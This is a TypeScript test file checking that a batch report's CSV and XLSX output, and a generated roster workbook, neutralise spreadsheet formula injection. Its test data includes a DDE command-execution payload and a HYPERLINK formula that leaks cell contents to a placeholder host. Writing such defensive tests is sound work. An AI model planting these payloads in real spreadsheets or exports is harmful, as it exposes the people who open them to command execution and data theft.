/**
 * The batch report is data, never formulas (OWASP "CSV Injection"): CSV cells
 * beginning with = + - @, a tab or a carriage return get a leading apostrophe;
 * the XLSX holds text cells only. Spreadsheets the forms make (the roster)
 * keep such text as text as well.
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { batchReportCsv, batchReportXlsx, csvField } from '../../src/batch/report.js';
import { rosterForm } from '../../src/forms/roster/index.js';
import { fieldName } from '../../src/packet/field-names.js';
import { render } from '../../src/render/index.js';
import { unzipParts } from '../helpers/office-tools.js';
import { CTX, loadRosterInput } from '../forms/model-walk.js';

const HOSTILE = [
  "=cmd|' /C calc'!A",
  '=1+2',
  '=HYPERLINK("http://example.invalid/?leak="&A1,"点此")',
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+2',
  '\r=1+2',
];

/** Splits our CSV (quoted fields may hold commas and line breaks) into rows of fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      rows.at(-1)!.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      rows.at(-1)!.push(field);
      field = '';
      rows.push([]);
      i++;
    } else field += c;
  }
  return rows.filter((row) => row.length > 0);
}

const report = {
  failures: HOSTILE.map((label, index) => ({
    source: `申报人员!${index + 5}`,
    label,
    problems: [{ path: '/applicant/name', code: 'NAME_DIGITS', message: label, messageEn: label }],
  })),
  findings: [],
};

describe('batch report', () => {
  it('neutralises every CSV cell that a spreadsheet would run as a formula', () => {
    for (const value of HOSTILE) expect(csvField(value).replace(/^"/, '')).toMatch(/^'/);
    expect(csvField('张玥')).toBe('张玥');
    expect(csvField('a,b')).toBe('"a,b"');
    const text = new TextDecoder().decode(batchReportCsv(report)).replace(/^\uFEFF/, '');
    const rows = parseCsv(text).slice(1);
    expect(rows).toHaveLength(HOSTILE.length);
    rows.forEach((row, index) => {
      expect(row[1]).toBe(`'${HOSTILE[index]}`);
      expect(row[7]).toBe(`'${HOSTILE[index]}`);
      // Nothing a spreadsheet starts a formula with begins any field.
      for (const field of row) expect(field).not.toMatch(/^[=+\-@\t\r]/);
    });
  });

  it('writes the XLSX as text cells, never formulas', async () => {
    const bytes = await batchReportXlsx(report, CTX.now);
    const sheetXml = new TextDecoder().decode(unzipParts(bytes).get('xl/worksheets/sheet1.xml'));
    expect(sheetXml).not.toContain('<f>');
    expect(sheetXml).not.toContain('<f ');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(bytes) as never);
    const sheet = workbook.worksheets[0]!;
    HOSTILE.forEach((value, index) => {
      const cell = sheet.getRow(index + 2).getCell(2);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a carriage return back as a line feed; the text is otherwise the same.
      expect(cell.value).toBe(value.replace(/\r/g, '\n'));
    });
  });

  it('keeps formula-like text in the roster workbook as text', async () => {
    const input = loadRosterInput();
    const first = input.dossiers[0]!;
    const hostile = {
      ...input,
      dossiers: [{ ...first, applicant: { ...first.applicant, employer: HOSTILE[2]!, specialty: HOSTILE[0]! } }],
    };
    const { bytes } = await render(rosterForm.build(hostile, CTX), 'xlsx');
    const parts = unzipParts(bytes);
    for (const [name, part] of parts) {
      if (!name.startsWith('xl/worksheets/')) continue;
      const xml = new TextDecoder().decode(part);
      expect(xml, name).not.toContain('<f>');
      expect(xml, name).not.toContain('<f ');
    }
    const strings = new TextDecoder().decode(parts.get('xl/sharedStrings.xml'));
    expect(strings).toContain('=HYPERLINK(');
  });
});

describe('fieldName', () => {
  it('names a unit field as staff know it, not as a person’s', () => {
    expect(fieldName('/unit/date')).toBe('填报单位 填报日期');
    expect(fieldName('/unit/name')).toBe('填报单位 单位名称');
    expect(fieldName('/recommendingUnit/name')).toBe('推荐单位 单位名称');
    expect(fieldName('/applicant/name')).toBe('申报人 姓名');
    expect(fieldName('/assessments/1/result')).toBe('年度考核 第2条 考核结果');
  });
});
